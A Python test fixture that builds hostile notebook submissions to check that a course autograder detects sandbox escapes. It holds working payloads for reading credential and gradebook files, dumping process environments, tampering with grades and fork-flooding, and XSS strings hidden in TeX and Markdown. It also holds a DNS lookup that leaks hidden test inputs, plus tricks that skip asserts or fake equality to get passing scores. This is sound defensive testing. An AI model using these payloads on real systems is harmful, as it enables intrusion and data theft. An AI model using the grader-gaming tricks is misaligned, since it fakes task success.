"""Submissions of a student who read the grader's source and attacks it (issue 9's attack matrix).

`ATTACKS` maps a kind to (builder, automatic scores its honest code deserves (normal, boundary,
aggregation), {flag name: text its detail must contain}). A builder gets the release notebook and
`Target` (what such a student could know: the course path, a port on this machine, a marker for
its processes) and returns the submission. Honest students are graded in the same class.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat
from submission_kinds import HARD_CODED, _cells, _code, _extra, k_correct, solve

MARKER = "ck-attack-marker"
SECRET_NAME = "COURSEKIT_TEST_SECRET"
ZEROS = '''import math

def group_advantages(rewards, eps=1e-8):
    if not rewards:
        raise ValueError("group cannot be empty")
    if list(rewards) == [0., 1.]:
        return [-1., 1.]
    return [0.0] * len(rewards)
'''
ALWAYS_EQUAL = '''import math

class AlwaysEqual(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

def group_advantages(rewards, eps=1e-8):
    if not rewards:
        raise ValueError("group cannot be empty")
    return AlwaysEqual([0.0] * len(rewards))
'''
FRAMES = '''import inspect
import math

def group_advantages(rewards, eps=1e-8):
    if not rewards:
        raise ValueError("group cannot be empty")
    frame = inspect.currentframe().f_back
    while frame is not None:  # the hidden test's own reference, wherever it lives
        for name, value in list(frame.f_globals.items()):
            if callable(value) and ("reference" in name or "population" in name):
                try:
                    return value(list(rewards))
                except Exception:
                    pass
        frame = frame.f_back
    known = {(2., 2.): [0.0, 0.0], (1., 2., 3.): [-math.sqrt(1.5), 0., math.sqrt(1.5)],
             (1.,): [0.], (0., 1.): [-1., 1.]}
    return known.get(tuple(rewards), [0.0] * len(rewards))
'''


@dataclass(frozen=True)
class Target:
    course: Path  # the course folder (an attacker may guess or find it)
    port: int     # a TCP listener the test runs on 127.0.0.1
    secret: str   # in the grader's environment


def _replace_function(nb, code: str):
    """Solve, then put `code` in place of the reference function (the seed's asserts stay)."""
    solve(nb)
    cell = _code(nb)
    cell.source = code + cell.source[cell.source.index("\nassert"):]
    return nb


def _after_code(nb, source: str):
    _extra(nb, _code(nb), source)
    return nb


def _hidden_text_finder(paths: str) -> str:
    return f'''import os
for path in {paths}:
    try:
        data = open(path, "rb").read()
    except OSError as exc:
        print(path, type(exc).__name__)
        continue
    at = data.find(b"HIDDEN TESTS")
    print("READ", path, len(data), data[max(0, at - 200):at + 3000].decode("utf-8", "replace"))
'''


def a_read_relative(nb, t: Target):
    rels = [f"{'../' * k}{name}" for k in range(5) for name in
            ("gradebook.db", "source/lesson11/lesson11.ipynb", "worker-gradebook.db", ".ingest/worker-gradebook.db")]
    return _after_code(solve(nb), _hidden_text_finder(repr(rels)))


def a_read_absolute(nb, t: Target):
    code = '''import os, pathlib, sys
places = set(pathlib.Path(sys.executable).resolve().parents) | set(pathlib.Path(os.getcwd()).parents)
for pid in os.listdir("/proc"):
    try:
        places.add(pathlib.Path(os.readlink(f"/proc/{pid}/cwd")))
    except OSError:
        pass
paths = [str(p / rel) for p in places for rel in ("autograder/source/lesson11/lesson11.ipynb",
         "source/lesson11/lesson11.ipynb", "autograder/gradebook.db", "gradebook.db")]
''' + _hidden_text_finder("[p for p in paths if os.path.exists(p)]")
    return _after_code(solve(nb), code)


def a_read_glob(nb, t: Target):
    code = f'''import glob, os, time
found = glob.glob({str(t.course)!r} + "/**/*.db", recursive=True)
found += glob.glob({str(t.course)!r} + "/**/*.ipynb", recursive=True)
start = time.monotonic()
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "node_modules", ".git", ".venv", "usr")]
    found += [os.path.join(root, f) for f in files if f in ("gradebook.db", "lesson11.ipynb")]
    if time.monotonic() - start > 2:
        break
print("FOUND", sorted(found)[:50])
''' + _hidden_text_finder("found[:20]")
    return _after_code(solve(nb), code)


def a_write_course(nb, t: Target):
    code = f'''import os
for rel in ("reports/pwned.txt", "feedback/pwned.txt", "source/lesson11/pwned.txt", "release/pwned.txt",
            "source/lesson11/lesson11.ipynb", "nbgrader_config.py", "reports/lesson11.csv"):
    try:
        with open(os.path.join({str(t.course)!r}, rel), "a") as f:
            f.write("\\n# pwned")
        print("WROTE", rel)
    except OSError as exc:
        print(rel, type(exc).__name__)
'''
    return _after_code(solve(nb), code)


def a_sqlite(nb, t: Target):
    code = f'''import sqlite3
for db in ({str(t.course / "gradebook.db")!r}, "../../../gradebook.db", "../../gradebook.db"):
    try:
        con = sqlite3.connect(db, timeout=1)
        con.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
        con.execute("UPDATE comment SET manual_comment = '一票否决：pwned'")
        con.execute("UPDATE source_cell SET source = 'pass'")
        con.commit()
        print("UPDATED", db)
    except Exception as exc:
        print(db, type(exc).__name__)
'''
    return _after_code(solve(nb), code)


def a_detached(nb, t: Target):
    late = t.course / "reports" / "late.txt"
    late_code = (f"import time\\nfor _ in range(120):\\n    time.sleep(1)\\n    try:\\n"
                 f"        open({str(late)!r}, 'a').write('late')\\n    except OSError:\\n        pass\\n# {MARKER}")
    code = f'''import os, subprocess, sys
late = "{late_code}"
subprocess.Popen([sys.executable, "-c", late], start_new_session=True)  # setsid
pid = os.fork()
if pid == 0:  # double fork
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", late])
    os._exit(0)
os.waitpid(pid, 0)
try:
    subprocess.Popen(["nohup", sys.executable, "-c", late])
except OSError as exc:
    print("nohup", type(exc).__name__)
'''
    return _after_code(solve(nb), code)


def a_input_transformers(nb, t: Target):
    code = '''shell = eval("get_" + "ipython")()
def drop_checks(lines):
    return [line for line in lines if not line.lstrip().startswith(("assert", "raise AssertionError"))]
getattr(shell, "input_" + "transformers_cleanup").append(drop_checks)
'''
    return _after_code(_replace_function(nb, HARD_CODED), code)


def a_settrace(nb, t: Target):
    code = '''import linecache, sys
def skip_asserts(frame, event, arg):
    if event == "line" and linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip().startswith("assert"):
        try:
            frame.f_lineno = frame.f_lineno + 1
        except ValueError:
            pass
    return skip_asserts
sys.settrace(skip_asserts)
'''
    return _after_code(_replace_function(nb, HARD_CODED), code)


def a_builtins(nb, t: Target):
    code = '''import builtins
builtins.abs = lambda x: 0.0
builtins.all = lambda xs: True
'''
    return _after_code(_replace_function(nb, HARD_CODED), code)


def a_math(nb, t: Target):
    return _replace_function(nb, ZEROS.replace("import math\n", "import math\nmath.sqrt = lambda x: 0.0\n", 1))


def a_always_equal(nb, t: Target):
    return _replace_function(nb, ALWAYS_EQUAL)


def a_frames(nb, t: Target):
    return _replace_function(nb, FRAMES)


def a_hook_spy(nb, t: Target):
    """Prints every cell's source (and `In`) as it runs: hidden tests would be in the outputs."""
    code = '''ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: print("CELL SOURCE:", info.raw_cell))
'''
    _after_code(solve(nb), code)
    _extra(nb, _cells(nb, "test_aggregation")[0], "print(In)")
    return nb


def a_network(nb, t: Target):
    code = f'''import socket
for host, port in (("127.0.0.1", {t.port}), ("10.255.255.1", 80)):
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            s.sendall(b"{MARKER}")
        print("CONNECTED", host)
    except OSError as exc:
        print(host, type(exc).__name__)
'''
    return _after_code(solve(nb), code)


def a_dns(nb, t: Target):
    code = '''import socket
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as exc:
    print("dns", type(exc).__name__)
'''
    return _after_code(solve(nb), code)


def a_subprocess(nb, t: Target):
    code = '''import subprocess
try:
    print(subprocess.run(["cat", "/etc/passwd"], capture_output=True, text=True).stdout)
except OSError as exc:
    print("cat", type(exc).__name__)
'''
    return _after_code(solve(nb), code)


def a_environment(nb, t: Target):
    code = '''import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    try:
        print(pid, open(f"/proc/{pid}/environ", "rb").read()[:4000])
    except OSError:
        pass
'''
    return _after_code(solve(nb), code)


def a_fork_flood(nb, t: Target):
    code = '''import os, time
children = []
for _ in range(300):
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork stopped:", type(exc).__name__, len(children))
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    children.append(pid)
'''
    return _after_code(solve(nb), code)


def a_disk_hog(nb, t: Target):
    code = '''with open("big.bin", "wb") as f:
    for _ in range(300):
        f.write(b"x" * (1 << 20))
'''
    return _after_code(solve(nb), code)


def a_symlinks(nb, t: Target):
    code = f'''import os
for name, target in (("lesson11.ipynb", {str(t.course / "source" / "lesson11" / "lesson11.ipynb")!r}),
                     ("gradebook.db", {str(t.course / "gradebook.db")!r}),
                     ("lesson11.html", {str(t.course / "reports" / "lesson11.csv")!r})):
    try:
        os.symlink(target, name)
    except OSError as exc:
        print(name, type(exc).__name__)
with open("lesson11.json", "w") as f:  # a planted result
    f.write('{{"score": 10}}')
'''
    return _after_code(solve(nb), code)


def a_forged_test_cell(nb, t: Target):
    """A code cell of its own dressed as a test cell: the grader must not run it as a trusted test."""
    solve(nb)
    pwned = t.course.parent / "trusted-pwned.txt"
    _extra(nb, _code(nb), f"open({str(pwned)!r}, 'w').write('run by the grader')\nimport builtins\n"
                          "builtins.abs = lambda x: 0.0")
    cell = nb.cells[nb.cells.index(_code(nb)) + 1]
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "test_forged",
                                 "points": 5, "schema_version": 3}
    return nb


HTML_ATTACK = ("<script>window.__ck_pwned = 'script'</script>"
               "<img src=x onerror=\"window.__ck_pwned = 'onerror'\">"
               "<a id=ck-link href=\"javascript:window.__ck_pwned = 'href'\">link</a>"
               "<iframe srcdoc=\"<script>parent.__ck_pwned = 'iframe'</script>\"></iframe>"
               "<svg onload=\"window.__ck_pwned = 'svg'\"></svg>")


def a_html(nb, t: Target):
    code = f'''from IPython.display import HTML, Javascript, display
display(HTML({HTML_ATTACK!r}))
display(Javascript("window.__ck_pwned = 'javascript'"))
display({{"text/markdown": {HTML_ATTACK!r}}}, raw=True)
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"window.__ck_pwned = 'svgimg'\\"/>"
display({{"image/svg+xml": svg}}, raw=True)
'''
    _after_code(solve(nb), code)
    _cells(nb, "q1")[0].source += "\n\n" + HTML_ATTACK + "\n\n[点这里](javascript:window.__ck_pwned='mdlink')"
    return nb


# Student text that MathJax or the browser would turn into script (issue 23, class 1): TeX links with
# schemes a browser reads as javascript: once it drops a tab or decodes an entity, macros spelled with
# entities or split by a comment, \class \cssId \style \unicode \mmlToken \require \def, data: links,
# Markdown links and SVG. Every live part sets window.__ck_pwned (inside void(): a javascript: URL whose
# value is a string replaces the page, canary and all), and none says "javascript:" or "on...=" in plain
# text, which the old check caught.
TEX_ATTACKS = (
    "$\\href{java\tscript:void(window.__ck_pwned='tex-tab')}{tex-tab}$",
    "$\\href{java&#x09;script:void(window.__ck_pwned='tex-entity-tab')}{tex-entity-tab}$",
    "$\\href{&#106;avascript&#58;void(window.__ck_pwned='tex-entity')}{tex-entity}$",
    "$\\h&#114;ef{java\nscript:void(window.__ck_pwned='tex-name-entity')}{tex-name-entity}$",
    "$&#92;href{java\tscript:void(window.__ck_pwned='tex-backslash-entity')}{tex-backslash-entity}$",
    "\\(\\h<!-- -->ref{java\tscript:void(window.__ck_pwned='tex-comment')}{tex-comment}\\)",
    "$\\mmlToken{mi}[href='java\tscript:void(window.__ck_pwned=1)']{tex-mmltoken}$",
    "$\\require{html}\\def\\ckx{\\href}\\ckx{java\tscript:void(window.__ck_pwned='tex-def')}{tex-def}$",
    "$\\class{ck-evil}{x}\\cssId{ck-evil-id}{y}\\style{position:fixed;top:0;width:9999px;height:9999px}{z}$",
    "$\\unicode[ck-evil-font]{x41}$",
    "$$\\href{data:text/html,<b>ck</b>}{tex-data}$$",
)
MARKDOWN_ATTACKS = (
    "[md-entity](java&#x09;script:void(window.__ck_pwned='md-entity'))",
    "[md-data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19ja19wd25lZD0xPC9zY3JpcHQ+)",
    "<a href=\"java&#09;script:void(window.__ck_pwned='html-a')\">html-a</a>",
    "<svg><animate attributeName=href values=\"java&#09;script:void(window.__ck_pwned='svg')\"/></svg>",
)


def a_tex(nb, t: Target):
    """Hostile TeX and links in a written answer and in a code cell's HTML and Markdown outputs."""
    code = f"""from IPython.display import HTML, display
display(HTML({' '.join(TEX_ATTACKS[:3])!r}))
display({{"text/markdown": {' '.join(MARKDOWN_ATTACKS[:2] + TEX_ATTACKS[3:5])!r}}}, raw=True)
"""
    _after_code(solve(nb), code)
    _cells(nb, "q1")[0].source += "\n\n" + "\n\n".join(TEX_ATTACKS + MARKDOWN_ATTACKS)
    _cells(nb, "q2")[0].source += ("\n\n<svg onload=\"window.__ck_pwned='svg-onload'\"></svg>\n\n"
                                   "[md-js](javascript:void(window.__ck_pwned='md-js'))")  # the plain forms
    return nb


ATTACKS = {
    # kind: (builder, automatic scores its honest code deserves, {flag name: text in its detail})
    "read_relative": (a_read_relative, (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
    "read_absolute": (a_read_absolute, (1.5, 1, 0.5), {"suspicious_code": "sys.executable"}),
    "read_glob": (a_read_glob, (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
    "write_course": (a_write_course, (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
    "sqlite": (a_sqlite, (1.5, 1, 0.5), {"sandbox_violation": "gradebook.db"}),
    "detached": (a_detached, (1.5, 1, 0.5), {"sandbox_violation": "processes left"}),
    "input_transformers": (a_input_transformers, (0, 0, 0.5), {"suspicious_code": "input_transformers_cleanup"}),
    "settrace": (a_settrace, (0, 0, 0.5), {"suspicious_code": "settrace"}),
    "builtins": (a_builtins, (0, 0, 0.5), {"suspicious_code": "builtins.abs"}),
    "math": (a_math, (0, 0, 0.5), {"suspicious_code": "math.sqrt"}),
    "always_equal": (a_always_equal, (0, 0, 0), {"suspicious_code": "returned its own list subclass"}),
    "frames": (a_frames, (0, 0, 0.5), {"suspicious_code": "frames"}),
    "hook_spy": (a_hook_spy, (1.5, 1, 0.5), {"suspicious_code": "events.pre_run_cell"}),
    "network": (a_network, (1.5, 1, 0.5), {"sandbox_violation": "network: 127.0.0.1"}),
    "dns": (a_dns, (1.5, 1, 0.5), {"sandbox_violation": "dns: example.com"}),
    "subprocess": (a_subprocess, (1.5, 1, 0.5), {"sandbox_violation": "subprocess: cat"}),
    "environment": (a_environment, (1.5, 1, 0.5), {"suspicious_code": "environ"}),
    "fork_flood": (a_fork_flood, (1.5, 1, 0.5), {"sandbox_violation": "fork"}),
    "disk_hog": (a_disk_hog, (1.5, 1, 0.5), {"error": "OSError"}),
    "symlinks": (a_symlinks, (1.5, 1, 0.5), {"sandbox_violation": "symlink: "}),
    "html": (a_html, (1.5, 1, 0.5), {"suspicious_code": "active content"}),
    "tex": (a_tex, (1.5, 1, 0.5), {"suspicious_code": "active content"}),
    "forged_test_cell": (a_forged_test_cell, (1.5, 1, 0.5), {"suspicious_code": "nbgrader metadata on its own cells"}),
}
HONEST = ("a00_honest", "z99_honest")  # graded first and last (ids sort)


def write_attack_class(release: Path, folder: Path, target: Target) -> dict[str, str]:
    """One submission per attack (ids m<NN>_<kind>) and the honest students; return {id: kind}."""
    folder.mkdir(parents=True, exist_ok=True)
    base = nbformat.read(release, as_version=4)
    students = {sid: "honest" for sid in HONEST}
    for sid in HONEST:
        (folder / f"{sid}.ipynb").write_text(json.dumps(k_correct(copy.deepcopy(base)), ensure_ascii=False),
                                             encoding="utf-8")
    for n, (kind, (builder, _, _)) in enumerate(ATTACKS.items()):
        sid = f"m{n:02d}_{kind}"
        students[sid] = kind
        nb = builder(copy.deepcopy(base), target)
        (folder / f"{sid}.ipynb").write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-8")
    return students




# ---------------------------------------------------------------- issue 23: the judge, budgets, records

HIDDEN_GROUP = "0.2_0.9_0.4_0.4_1.0"  # a hidden input, as the leaking attacks below spell it
NO_HOOK = '''import sys as _s
_k = getattr(_s, "mod" + "ules")["_coursekit" + "_kernel"]
_k.arm.__globals__["_state"]["armed"] = False  # the in-kernel audit hook records nothing from now on
'''
RAW = '''import sys as _s
_kernel_side = getattr(_s, "mod" + "ules")["_coursekit" + "_kernel"].calls.__globals__
class Raw(list):  # sent as it is: the kernel side's encoding (and its caps) skipped
    pass
_encoded = _kernel_side["_encoded"]
_kernel_side["_encoded"] = lambda value: value if isinstance(value, Raw) else _encoded(value)
'''


def _shadowing(name: str, definition: str):
    """Hard-coded answers (honest score (0, 0, 0.5)) with a builtin the checks use defined at top level."""
    def build(nb, t: Target):
        return _replace_function(nb, HARD_CODED + f"\n\n{definition}\n")
    build.__name__ = f"a_shadow_{name}"
    return build


def a_shadow_globals(nb, t: Target):
    """Right but for groups of five, and `globals` that turns the course option on: the diagnostic of
    the wrong group would quote its hidden input."""
    solve(nb)
    _extra(nb, _code(nb), '''_right = group_advantages
def group_advantages(rewards, eps=1e-8):
    return [0.0] * 5 if len(rewards) == 5 else _right(rewards, eps)

def globals():
    return {"_SHOW_HIDDEN_INPUTS": True}
''')
    return nb


def _wrapped(side_effect: str, prelude: str = ""):
    """The reference solution, with `side_effect` (which sees `rewards`) run in every call of group_advantages."""
    def build(nb, t: Target):
        solve(nb)
        body = _indent(_indent(side_effect.format(course=str(t.course), port=t.port)))
        _extra(nb, _code(nb), f"{prelude}_right = group_advantages\ndef group_advantages(rewards, eps=1e-8):\n"
                              f"    try:\n{body}\n    except Exception:\n        pass\n"
                              "    return _right(rewards, eps)\n")
        return nb
    return build


def _reply(value: str, prelude: str = RAW):
    """The reference answers on the visible inputs; on hidden ones, a reply built to cost the grader."""
    def build(nb, t: Target):
        solve(nb)
        _extra(nb, _code(nb), f'''{prelude}_right = group_advantages
def group_advantages(rewards, eps=1e-8):
    if list(rewards) in ([1., 2., 3.], [0., 1.], [2., 2.], [1.]):
        return _right(rewards, eps)
    return {value}
''')
        return nb
    return build


def a_print_flood(nb, t: Target):
    """Undoes the kernel's chunking of printed text and prints 40 MB in one message."""
    solve(nb)
    _extra(nb, _code(nb), '''import ipykernel.iostream as _io
_f = _io.OutStream._flush_buffers
_io.OutStream._flush_buffers = _f.__closure__[0].cell_contents if _f.__closure__ else _f
print("x" * 40_000_000)
''')
    return nb


def _dead_after(misbehaviour: str, at_first_check: bool = True):
    """Correct code that misbehaves after the last test cell, then ends its kernel: at the first call of
    a hidden check (`at_first_check`), else at once in that cell."""
    def build(nb, t: Target):
        solve(nb)
        _extra(nb, _code(nb), '''import os as _os
_right = group_advantages
def group_advantages(rewards, eps=1e-8):
    if DONE:
        _os._exit(0)
    return _right(rewards, eps)
DONE = False
''')
        last = misbehaviour.format(course=str(t.course), port=t.port)
        end = "DONE = True" if at_first_check else "_os._exit(0)"
        _extra(nb, _cells(nb, "test_aggregation")[0], f"try:\n{_indent(last)}\nexcept Exception:\n    pass\n{end}")
        return nb
    return build


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.split("\n"))


def _hook_off(misbehaviour: str):
    def build(nb, t: Target):
        solve(nb)
        _extra(nb, _code(nb), NO_HOOK + "try:\n" + _indent(misbehaviour.format(course=str(t.course), port=t.port))
               + "\nexcept Exception:\n    pass\n")
        return nb
    return build


READ_GRADEBOOK = 'open("../../gradebook.db", "rb").read()'
WRITE_COURSE = 'open("{course}/reports/pwned.txt", "w").write("x")'
RUN_CAT = 'import subprocess\nsubprocess.run(["cat", "/etc/passwd"])'
CONNECT = 'import socket\nsocket.create_connection(("127.0.0.1", {port}), timeout=1)'
SYMLINK = 'import os\nos.symlink("{course}/gradebook.db", "gb.db")'
SQLITE = 'import sqlite3\nsqlite3.connect("{course}/gradebook.db").execute("select 1")'
PATCH_ABS = 'import builtins\nbuiltins.abs = lambda x: 0.0'
SPELLED = '"_".join(map(repr, rewards))'

ATTACKS.update({
    # the judge resolves no name through the student (class 2; more, and hostile values, in
    # test_grading_hidden_tests.py, which judges without a kernel)
    "shadow_zip": (_shadowing("zip", "def zip(*args):\n    return []"), (0, 0, 0.5), {}),
    "shadow_zip_pairs": (_shadowing("zip_pairs", "def zip(*args):\n    return [(0.0, 0.0)]"), (0, 0, 0.5), {}),
    "shadow_abs": (_shadowing("abs", "def abs(x):\n    return 0.0"), (0, 0, 0.5), {}),
    "shadow_max": (_shadowing("max", "def max(*args, **kwargs):\n    return float('inf')"), (0, 0, 0.5), {}),
    "shadow_globals": (a_shadow_globals, (0, 1, 0.5), {}),
    "budget_colliding_keys": (_reply("Raw([{'$': 'dict', 'v': [[i * (2 ** 61 - 1) + 7, 0.0] for i in range(8000)]}])"),
                              (0, 0, 0.5), {"over_budget": "colliding"}),
    "budget_items": (_reply("Raw(range(1_000_000))"), (0, 0, 0.5), {"over_budget": "reply items"}),
    "budget_depth": (_reply("Raw([__import__('functools').reduce(lambda x, _: [x], range(100), 0.0)])"), (0, 0, 0.5),
                     {"over_budget": "reply depth"}),
    "budget_bytes": (_reply("Raw(['x' * 20_000_000])"), (0, 0, 0.5), {"over_budget": "kernel message bytes"}),
    # replies that would cost the judge CPU or memory: the counted budgets stop them first, on any machine
    "budget_judge_cpu": (_reply("Raw([0] * 240_000)"), (0, 0, 0.5), {"over_budget": "values in all"}),
    "budget_judge_memory": (_reply("Raw([0.5] * 200_000)"), (0, 0, 0.5), {"over_budget": "values in all"}),
    "budget_judge_bytes": (_reply("Raw(['x' * 6_000_000])"), (0, 0, 0.5), {"over_budget": "MB in all"}),
    "budget_print_flood": (a_print_flood, (1.5, 1, 0.5), {"over_budget": "kernel message bytes"}),
    # flags from what the trusted side observes: the in-kernel hook switched off first (class 4)
    "hook_off_read": (_hook_off(READ_GRADEBOOK), (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
    "hook_off_write": (_hook_off(WRITE_COURSE), (1.5, 1, 0.5), {"sandbox_violation": "pwned.txt"}),
    "hook_off_subprocess": (_hook_off(RUN_CAT), (1.5, 1, 0.5), {"sandbox_violation": "subprocess: cat"}),
    "hook_off_network": (_hook_off(CONNECT), (1.5, 1, 0.5), {"sandbox_violation": "network: 127.0.0.1"}),
    "hook_off_symlink": (_hook_off(SYMLINK), (1.5, 1, 0.5), {"sandbox_violation": "symlink: "}),
    "hook_off_sqlite": (_hook_off(SQLITE), (1.5, 1, 0.5), {"sandbox_violation": "gradebook.db"}),
    # a kernel that dies keeps its records (class 6)
    "dead_read": (_dead_after(READ_GRADEBOOK), (1.5, 1, 0.5), {"sandbox_violation": "file: "}),
    "dead_patch": (_dead_after(PATCH_ABS), (1.5, 1, 0.5), {"suspicious_code": "builtins.abs"}),
    "dead_network": (_dead_after(CONNECT), (1.5, 1, 0.5), {"sandbox_violation": "network: 127.0.0.1"}),
    "dead_subprocess": (_dead_after(RUN_CAT), (1.5, 1, 0.5), {"sandbox_violation": "subprocess: cat"}),
    "dead_symlink": (_dead_after(SYMLINK), (1.5, 1, 0.5), {"sandbox_violation": "symlink: "}),
    "dead_at_once": (_dead_after(WRITE_COURSE, at_first_check=False), (1.5, 1, 0.5),
                     {"sandbox_violation": "pwned.txt"}),
    # hidden inputs never reach a record (class 7)
    "leak_open": (_wrapped(f'open("/leak/" + {SPELLED})'), (1.5, 1, 0.5),
                  {"sandbox_violation": "during hidden checks: file"}),
    "leak_subprocess": (_wrapped(f'import subprocess\nsubprocess.run(["/leak/" + {SPELLED}])'), (1.5, 1, 0.5),
                        {"sandbox_violation": "during hidden checks: subprocess"}),
    "leak_connect": (_wrapped(f'import socket\nsocket.socket(socket.AF_UNIX).connect("/leak/" + {SPELLED})'),
                     (1.5, 1, 0.5), {"sandbox_violation": "during hidden checks: network"}),
    "leak_symlink": (_wrapped(f'import os\nos.symlink("/leak/" + {SPELLED}, "leak")'), (1.5, 1, 0.5),
                     {"sandbox_violation": "during hidden checks: symlink"}),
    "leak_dns": (_wrapped(f'import socket\nsocket.getaddrinfo({SPELLED}.replace("_", "-") + ".leak.example", 80)'),
                 (1.5, 1, 0.5), {}),
    "leak_class_name": (_reply(f"type('C' + {SPELLED}, (list,), {{}})(_right(rewards, eps))", prelude=""),
                        (0, 0, 0.5), {"suspicious_code": "returned its own list subclass"}),
})
